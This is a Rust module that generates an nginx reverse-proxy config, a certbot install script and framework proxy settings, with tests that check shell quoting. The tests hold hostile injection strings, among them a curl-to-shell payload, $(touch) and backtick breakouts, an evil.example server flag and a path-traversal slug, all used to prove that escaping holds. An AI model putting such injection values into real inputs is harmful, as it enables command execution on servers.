//! The free path's files: the exact nginx site for a project, the install + certbot script for
//! Amazon Linux 2023 and Ubuntu, and the framework settings that must change behind a proxy.
//!
//! Pure text from the project and its name plan, so the browser shows the same files the
//! server runs through SSM, and tests run them against a real nginx and certbot.
//!
//! The script runs as root on a student's instance, so nothing in it is pasted in bare: every
//! value in a command goes through [`crate::shell::quote`], every value in a `#` comment
//! through [`crate::shell::comment`], the site travels in a here-document whose end marker
//! cannot occur in it, and every value in the nginx site is a checked [`nginx_token`] (held
//! by the typed [`SiteSpec`] and [`Listen`]).

use crate::contact::Email;
use crate::project::Framework;
use crate::shell::{comment, quote};
use crate::text::{msg, Message};
use crate::DomainName;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Uploads larger than this get nginx's 413; 20 MB fits profile pictures and PDFs.
pub const CLIENT_MAX_BODY: &str = "20m";

/// The operating system of the instance.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Os {
    AmazonLinux2023,
    Ubuntu,
}

impl Os {
    pub const ALL: [Os; 2] = [Os::AmazonLinux2023, Os::Ubuntu];
    pub fn key(self) -> &'static str {
        match self {
            Os::AmazonLinux2023 => "al2023",
            Os::Ubuntu => "ubuntu",
        }
    }
    pub fn label(self) -> &'static str {
        match self {
            Os::AmazonLinux2023 => "Amazon Linux 2023",
            Os::Ubuntu => "Ubuntu 22.04 / 24.04",
        }
    }
    pub fn parse(s: &str) -> Option<Os> {
        Os::ALL.into_iter().find(|o| o.key() == s)
    }
}

/// The one check for a value written bare into an nginx config (a `listen` value, a
/// `server_name`, a port): 1 to 253 of `A-Z a-z 0-9 . : [ ] _ -`. Nothing nginx reads as syntax
/// (`;` `{` `}` `#` quotes `$` spaces line breaks) passes, so a value cannot end its directive
/// and start another one.
pub fn nginx_token(s: &str) -> Result<&str, Message> {
    let allowed = |c: char| c.is_ascii_alphanumeric() || ".:[]_-".contains(c);
    if let Some(c) = s.chars().find(|c| !allowed(*c)) {
        let (en, ko) = crate::shell::named(c);
        return Err(msg(
            format!(
                "\"{s}\" cannot go into the nginx configuration because it contains {en}. Use letters, digits and . : [ ] _ - only: a name such as api.example.com, a port such as 80, or an address and port such as 127.0.0.1:8080."
            ),
            format!(
                "\"{s}\"에는 {ko}이(가) 있어서 nginx 설정에 넣을 수 없습니다. 문자, 숫자와 . : [ ] _ - 만 사용하세요. 예: api.example.com 같은 이름, 80 같은 포트, 127.0.0.1:8080 같은 주소와 포트."
            ),
        ));
    }
    if s.is_empty() || s.len() > 253 {
        return Err(msg(
            "An nginx value must be 1 to 253 characters long: a name such as api.example.com, a port such as 80, or an address and port such as 127.0.0.1:8080.",
            "nginx 값은 1자에서 253자 사이여야 합니다. 예: api.example.com 같은 이름, 80 같은 포트, 127.0.0.1:8080 같은 주소와 포트.",
        ));
    }
    Ok(s)
}

/// The `listen` value of the plain-HTTP server: `80` on an instance (a lab listens on
/// `127.0.20.1:18080`). Always an [`nginx_token`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listen(String);

impl Listen {
    pub fn port(port: u16) -> Listen {
        Listen(port.to_string())
    }
    pub fn parse(s: &str) -> Result<Listen, Message> {
        nginx_token(s.trim()).map(|t| Listen(t.to_string()))
    }
    pub fn as_str(&self) -> &str {
        &self.0
    }
    /// Only a port: nginx then listens on every IPv4 address, and the site adds IPv6.
    fn is_port(&self) -> bool {
        self.0.chars().all(|c| c.is_ascii_digit())
    }
}

impl fmt::Display for Listen {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// What the generated files are for. Built by [`SiteSpec::new`], which checks every name as an
/// [`nginx_token`]; the fields are private so nothing unchecked gets in afterwards.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SiteSpec {
    /// The API name (the certificate's name); more names share the server block.
    names: Vec<DomainName>,
    app_port: u16,
    listen: Listen,
    /// The file name under /etc/nginx/conf.d/ (without `.conf`): `lockstep-` and the slug's
    /// letters, digits, `-` and `_` (anything else becomes `-`), so never a path.
    file_stem: String,
}

impl SiteSpec {
    /// The site for `names` in front of the app on `app_port`, written to
    /// `/etc/nginx/conf.d/lockstep-<project_slug>.conf`, listening on port 80.
    pub fn new(names: Vec<DomainName>, app_port: u16, project_slug: &str) -> Result<SiteSpec, Message> {
        if names.is_empty() {
            return Err(msg(
                "The nginx site needs the API's name (such as api.example.com): choose the names first.",
                "nginx 사이트에는 API 이름(예: api.example.com)이 필요합니다. 먼저 이름을 정하세요.",
            ));
        }
        for n in &names {
            if n.is_wildcard() {
                return Err(msg(
                    format!(
                        "{n} is a wildcard name: certbot on the instance proves one exact name over HTTP, which a wildcard cannot do. Use the API's own name, such as api.example.com."
                    ),
                    format!(
                        "{n}은(는) 와일드카드 이름입니다. 인스턴스의 certbot은 HTTP로 정확한 이름 하나를 증명하는데, 와일드카드로는 할 수 없습니다. api.example.com 같은 API 자체의 이름을 쓰세요."
                    ),
                ));
            }
            nginx_token(n.as_str())?;
        }
        let slug: String = project_slug
            .chars()
            .take(100)
            .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '_' { c } else { '-' })
            .collect();
        Ok(SiteSpec { names, app_port, listen: Listen::port(80), file_stem: format!("lockstep-{slug}") })
    }
    /// The same site on another `listen` value (a lab on loopback).
    pub fn with_listen(self, listen: Listen) -> SiteSpec {
        SiteSpec { listen, ..self }
    }
    pub fn names(&self) -> &[DomainName] {
        &self.names
    }
    pub fn app_port(&self) -> u16 {
        self.app_port
    }
    pub fn listen(&self) -> &Listen {
        &self.listen
    }
    pub fn file_stem(&self) -> &str {
        &self.file_stem
    }
    /// Where the site is written on the instance.
    pub fn site_path(&self) -> String {
        format!("/etc/nginx/conf.d/{}.conf", self.file_stem)
    }
    pub fn server_names(&self) -> String {
        self.names.iter().map(|n| n.as_str().to_string()).collect::<Vec<_>>().join(" ")
    }
    fn name_strs(&self) -> Vec<&str> {
        self.names.iter().map(DomainName::as_str).collect()
    }
}

/// The nginx site: plain HTTP in front of the app. `certbot --nginx` then adds the 443 server
/// with the certificate and turns this one into the redirect.
pub fn site_config(s: &SiteSpec) -> String {
    let v6 = if s.listen.is_port() { format!("\n    listen [::]:{};", s.listen) } else { String::new() };
    format!(
        r#"# Written by lockstep: nginx in front of your app on port {port}.
# certbot --nginx adds the HTTPS server (443) and the redirect from http:// to this file.
server {{
    listen {listen};{v6}
    server_name {names};

    # Uploads up to {body} (nginx's default is 1m: larger ones fail with 413).
    client_max_body_size {body};

    location / {{
        proxy_pass http://127.0.0.1:{port};
        proxy_http_version 1.1;
        # The app sees the name the browser used, the visitor's address, and that the
        # visitor came over https (for redirects, secure cookies and absolute URLs).
        proxy_set_header Host $host;
        proxy_set_header X-Real-IP $remote_addr;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
        proxy_set_header X-Forwarded-Proto $scheme;
        proxy_read_timeout 60s;
    }}
}}
"#,
        port = s.app_port,
        listen = s.listen,
        names = s.server_names(),
        body = CLIENT_MAX_BODY,
    )
}

/// The certbot command: HTTP-01 through nginx, installs the certificate and the redirect.
pub fn certbot_command(s: &SiteSpec, email: &Email, staging: bool) -> String {
    certbot_line(&s.name_strs(), email.as_str(), staging)
}

/// [`certbot_command`] from plain strings: each value one quoted word.
fn certbot_line(names: &[&str], email: &str, staging: bool) -> String {
    let domains: String = names.iter().map(|n| format!(" -d {}", quote(n))).collect();
    format!(
        "sudo certbot --nginx{domains} --redirect -m {} --agree-tos -n{}",
        quote(email),
        if staging { " --staging" } else { "" }
    )
}

/// The whole script for the instance: install nginx and certbot, write the site, check the
/// config, start nginx, get the certificate, prove renewal works.
pub fn install_script(os: Os, s: &SiteSpec, email: &Email, staging: bool) -> String {
    script_text(os, &s.name_strs(), s.app_port, &s.site_path(), &site_config(s), &certbot_command(s, email, staging))
}

/// The end marker of the here-document that carries `body`: `LOCKSTEP_SITE`, made longer until
/// no line of `body` equals it (a line equal to it would end the document early, and the lines
/// after it would run as commands).
pub(crate) fn heredoc_end(body: &str) -> String {
    let mut end = String::from("LOCKSTEP_SITE");
    while body.lines().any(|l| l == end) {
        end.push('_');
    }
    end
}

/// [`install_script`] from its parts; `certbot` is the finished (quoted) certbot line.
fn script_text(os: Os, names: &[&str], port: u16, site_path: &str, site: &str, certbot: &str) -> String {
    let install = match os {
        Os::AmazonLinux2023 => {
            "# nginx from the distribution; certbot the way certbot.eff.org recommends for AL2023 (pip in its own venv)\n\
sudo dnf install -y nginx python3 augeas-libs\n\
if ! command -v certbot >/dev/null; then\n  \
sudo python3 -m venv /opt/certbot\n  \
sudo /opt/certbot/bin/pip install --upgrade pip certbot certbot-nginx\n  \
sudo ln -sf /opt/certbot/bin/certbot /usr/bin/certbot\nfi\n\
# renewal twice a day (the pip install has no timer of its own)\n\
echo '0 0,12 * * * root /opt/certbot/bin/certbot renew -q --deploy-hook \"systemctl reload nginx\"' | sudo tee /etc/cron.d/certbot >/dev/null\n\
sudo dnf install -y cronie && sudo systemctl enable --now crond\n"
        }
        Os::Ubuntu => {
            "# nginx and certbot from the distribution (certbot's package installs its renewal timer)\n\
sudo apt-get update\n\
sudo DEBIAN_FRONTEND=noninteractive apt-get install -y nginx certbot python3-certbot-nginx\n"
        }
    };
    let site = if site.ends_with('\n') { site.to_string() } else { format!("{site}\n") };
    let end = heredoc_end(&site);
    format!(
        "#!/bin/bash\n# Written by lockstep for {names} ({os}). Run it on the instance.\nset -euo pipefail\n\n{install}\n\
# the site: nginx in front of the app on port {port}\n\
sudo tee {path} >/dev/null <<'{end}'\n{site}{end}\n\
sudo nginx -t\n\
sudo systemctl enable nginx\n\
sudo systemctl restart nginx\n\n\
# the certificate (Let's Encrypt checks http://{first}/.well-known/... on port 80)\n\
{certbot}\n\n\
# prove that renewal will work in 60 days\n\
sudo certbot renew --dry-run\n",
        names = comment(&names.join(" ")),
        os = os.label(),
        path = quote(site_path),
        first = comment(names.first().copied().unwrap_or("")),
    )
}

/// What to change in the app once nginx (or an ALB) ends HTTPS in front of it.
pub fn framework_settings(f: Framework, frontend_origin: &str) -> Vec<(String, String)> {
    match f {
        Framework::Django => vec![
            ("settings.py".into(), format!(
                "SECURE_PROXY_SSL_HEADER = (\"HTTP_X_FORWARDED_PROTO\", \"https\")\nUSE_X_FORWARDED_HOST = True\nCSRF_TRUSTED_ORIGINS = [\"{frontend_origin}\"]\nCORS_ALLOWED_ORIGINS = [\"{frontend_origin}\"]  # django-cors-headers\nSESSION_COOKIE_SECURE = True\nCSRF_COOKIE_SECURE = True"
            )),
        ],
        Framework::Express => vec![
            ("app.js".into(), format!(
                "app.set('trust proxy', 1); // req.secure and secure cookies behind nginx\napp.use(cors({{ origin: '{frontend_origin}', credentials: true }}));\n// cookies: {{ secure: true, sameSite: 'lax' }} (or 'none' when frontend and API are different sites)"
            )),
        ],
        Framework::Spring => vec![
            ("application.properties".into(), "server.forward-headers-strategy=framework\nserver.servlet.session.cookie.secure=true".into()),
            ("CORS (a @Bean CorsConfigurationSource)".into(), format!(
                "allowedOrigins: {frontend_origin}\nallowedMethods: GET, POST, PUT, PATCH, DELETE, OPTIONS\nallowCredentials: true\n// and http.cors(withDefaults()) in the SecurityFilterChain, so preflights pass before authentication"
            )),
        ],
        Framework::Other => vec![(
            "your framework".into(),
            format!("Trust X-Forwarded-Proto from the proxy, mark cookies Secure, and allow the origin {frontend_origin} in CORS (with credentials if you use cookies)."),
        )],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::Path;
    use std::process::Command;

    fn spec() -> SiteSpec {
        SiteSpec::new(vec![DomainName::parse("api.team.example.com").unwrap()], 8080, "shop").unwrap()
    }
    fn email(s: &str) -> Email {
        Email::parse(s).unwrap()
    }

    #[test]
    fn the_site_proxies_to_the_app_with_the_forwarded_headers() {
        let c = site_config(&spec());
        for needle in [
            "listen 80;",
            "listen [::]:80;",
            "server_name api.team.example.com;",
            "proxy_pass http://127.0.0.1:8080;",
            "proxy_set_header Host $host;",
            "X-Forwarded-For $proxy_add_x_forwarded_for;",
            "X-Forwarded-Proto $scheme;",
            "client_max_body_size 20m;",
        ] {
            assert!(c.contains(needle), "missing {needle}:\n{c}");
        }
        let lab = spec().with_listen(Listen::parse("127.0.20.1:18080").unwrap());
        assert!(site_config(&lab).contains("listen 127.0.20.1:18080;"));
        assert!(!site_config(&lab).contains("[::]"), "no v6 listen for an address:port");
    }

    #[test]
    fn the_script_gets_and_proves_the_certificate() {
        for os in Os::ALL {
            let s = install_script(os, &spec(), &email("team@example.com"), false);
            assert!(
                s.contains(
                    "sudo certbot --nginx -d 'api.team.example.com' --redirect -m 'team@example.com' --agree-tos -n\n"
                ),
                "{s}"
            );
            assert!(s.contains("sudo nginx -t") && s.contains("certbot renew --dry-run"));
            assert!(s.contains("sudo tee '/etc/nginx/conf.d/lockstep-shop.conf' >/dev/null <<'LOCKSTEP_SITE'\n"));
        }
        let e = email("t@example.com");
        assert!(install_script(Os::Ubuntu, &spec(), &e, true).contains("--agree-tos -n --staging"));
        assert!(install_script(Os::AmazonLinux2023, &spec(), &e, false).contains("dnf install"));
    }

    #[test]
    fn nginx_values_are_checked_tokens() {
        for ok in ["80", "127.0.20.1:18080", "[::]:80", "api.example.com", "a_b-c"] {
            assert_eq!(nginx_token(ok).unwrap(), ok);
            assert_eq!(Listen::parse(ok).unwrap().as_str(), ok);
        }
        for bad in ["", "80; include /etc/passwd", "80;", "a b", "x{", "}", "#", "$host", "'80'", "80\nlisten 81", "*"]
        {
            let e = Listen::parse(bad).unwrap_err();
            assert!(e.en.contains("nginx") && e.ko.contains("nginx"), "{bad:?}: {e:?}");
        }
        assert!(nginx_token(&"a".repeat(254)).is_err());
        let star = SiteSpec::new(vec![DomainName::parse("*.example.com").unwrap()], 80, "x").unwrap_err();
        assert!(star.en.contains("wildcard"), "{}", star.en);
        assert!(SiteSpec::new(Vec::new(), 80, "x").is_err());
        // The file stem never leaves conf.d.
        let s = SiteSpec::new(spec().names().to_vec(), 80, "../../cron.d/x y;$(id)").unwrap();
        assert_eq!(s.file_stem(), "lockstep-------cron-d-x-y---id-");
        assert_eq!(s.site_path(), "/etc/nginx/conf.d/lockstep-------cron-d-x-y---id-.conf");
    }

    #[test]
    fn the_here_document_cannot_be_ended_by_the_site() {
        assert_eq!(heredoc_end("a\nb\n"), "LOCKSTEP_SITE");
        assert_eq!(heredoc_end("LOCKSTEP_SITE\nLOCKSTEP_SITE_\n"), "LOCKSTEP_SITE__");
        assert_eq!(heredoc_end(" LOCKSTEP_SITE\n"), "LOCKSTEP_SITE");
    }

    /// Runs `script` with bash, `sudo` replaced by a function that writes each call's argv
    /// (NUL-separated, a `\x01` field after each call) to `dir/sudo-calls` and what it reads
    /// (the input of `tee`, like the real command) to `dir/sudo-stdin`; returns the calls.
    fn run_with_fake_sudo(dir: &Path, script: &str) -> Vec<Vec<String>> {
        let out = dir.join("sudo-calls");
        let path = dir.join("install.sh");
        let q = |f: &str| crate::shell::quote(&dir.join(f).display().to_string());
        let prelude = format!(
            "sudo() {{ printf '%s\\0' \"$@\" >>{calls}; printf '\\001\\0' >>{calls}; cat >>{stdin}; }}\n",
            calls = q("sudo-calls"),
            stdin = q("sudo-stdin"),
        );
        std::fs::write(&path, format!("{prelude}{script}")).unwrap();
        let syntax = Command::new("bash").arg("-n").arg(&path).output().expect("bash runs");
        assert!(
            syntax.status.success() && syntax.stderr.is_empty(),
            "bash -n: {}\n{script}",
            String::from_utf8_lossy(&syntax.stderr)
        );
        let run = Command::new("bash").arg(&path).current_dir(dir).output().expect("bash runs");
        assert!(run.status.success(), "{}\n{script}", String::from_utf8_lossy(&run.stderr));
        let bytes = std::fs::read(&out).unwrap_or_default();
        let text = String::from_utf8(bytes).expect("argv is UTF-8");
        let mut calls = vec![Vec::new()];
        for field in text.split('\0') {
            match field {
                "\u{1}" => calls.push(Vec::new()),
                f => calls.last_mut().unwrap().push(f.to_string()),
            }
        }
        calls.retain(|c| !c.is_empty() && c != &[String::new()]);
        calls
    }

    fn scratch(name: &str) -> std::path::PathBuf {
        let d = std::env::temp_dir().join(format!("lockstep-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    /// Issue 19: every value in the script arrives as exactly one argument, unchanged, and
    /// nothing in a value runs: hostile names, e-mail, file path and site text (fed past the
    /// parsers, straight to the quoting), checked by bash itself.
    #[test]
    fn hostile_values_stay_single_arguments_in_the_whole_script() {
        let dir = scratch("injection");
        let canary = dir.join("canary");
        let c = canary.display().to_string();
        let touch = format!("$(touch {c})");
        let hostile: Vec<String> = vec![
            "a@b.co;curl${IFS}x.sh|sh".into(),
            touch.clone(),
            format!("`touch {c}`"),
            format!("x'; touch {c}; echo '"),
            format!("x\ntouch {c}\n"),
            format!("\" ; touch {c} ; \""),
            "it's \\ back\\'slash".into(),
            "*".into(),
            "~root".into(),
            "{a,b}".into(),
            "--server=https://evil.example/dir".into(),
            "-".into(),
            String::new(),
            "LOCKSTEP_SITE".into(),
            "tab\there & >x <y #z !1".into(),
        ];
        let site = format!("server {{}}\nLOCKSTEP_SITE\ntouch {c}\n{touch}\n");
        for os in Os::ALL {
            for (i, value) in hostile.iter().enumerate() {
                let names = [value.as_str(), "api.example.com"];
                let path = format!("/etc/nginx/conf.d/{value}.conf");
                let certbot = certbot_line(&names, value, i % 2 == 0);
                let script = script_text(os, &names, 8000, &path, &site, &certbot);
                let calls = run_with_fake_sudo(&dir, &script);
                assert!(!canary.exists(), "{value:?} ran a command:\n{script}");
                let mut want: Vec<String> =
                    ["certbot", "--nginx", "-d", value, "-d", "api.example.com", "--redirect", "-m", value]
                        .map(String::from)
                        .to_vec();
                want.extend(["--agree-tos", "-n"].map(String::from));
                if i % 2 == 0 {
                    want.push("--staging".into());
                }
                assert!(calls.contains(&want), "{value:?}: certbot got {calls:?}");
                assert!(calls.contains(&vec!["tee".to_string(), path.clone()]), "{value:?}: {calls:?}");
                let written = std::fs::read_to_string(dir.join("sudo-stdin")).unwrap();
                assert!(written.ends_with(&site), "the site arrives whole through the here-document:\n{written}");
                std::fs::remove_file(dir.join("sudo-calls")).ok();
                std::fs::remove_file(dir.join("sudo-stdin")).ok();
            }
        }
        std::fs::remove_dir_all(&dir).ok();
    }

    /// The script as lockstep builds it from typed values parses and runs the same way.
    #[test]
    fn the_real_script_passes_bash_and_gives_certbot_its_arguments() {
        let dir = scratch("script");
        let names = vec![DomainName::parse("api.team-x.com").unwrap(), DomainName::parse("54-1-2-3.sslip.io").unwrap()];
        let spec = SiteSpec::new(names, 3000, "api-team-x-com").unwrap();
        let e = email("kim+team@snu.ac.kr");
        for os in Os::ALL {
            for staging in [false, true] {
                let calls = run_with_fake_sudo(&dir, &install_script(os, &spec, &e, staging));
                let mut want = vec!["certbot", "--nginx", "-d", "api.team-x.com", "-d", "54-1-2-3.sslip.io"];
                want.extend(["--redirect", "-m", "kim+team@snu.ac.kr", "--agree-tos", "-n"]);
                if staging {
                    want.push("--staging");
                }
                let want: Vec<String> = want.into_iter().map(String::from).collect();
                assert!(calls.contains(&want), "{calls:?}");
                assert!(calls.contains(&vec!["tee".into(), "/etc/nginx/conf.d/lockstep-api-team-x-com.conf".into()]));
                assert_eq!(calls.last().map(|c| c.join(" ")), Some("certbot renew --dry-run".to_string()));
                let written = std::fs::read_to_string(dir.join("sudo-stdin")).unwrap();
                assert!(written.ends_with(&site_config(&spec)), "{written}");
                std::fs::remove_file(dir.join("sudo-calls")).ok();
                std::fs::remove_file(dir.join("sudo-stdin")).ok();
            }
        }
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn every_framework_gets_its_settings() {
        for f in Framework::ALL {
            let s = framework_settings(f, "https://www.example.com");
            assert!(!s.is_empty());
            assert!(s.iter().any(|(_, v)| v.contains("https://www.example.com")) || f == Framework::Spring);
        }
    }
}
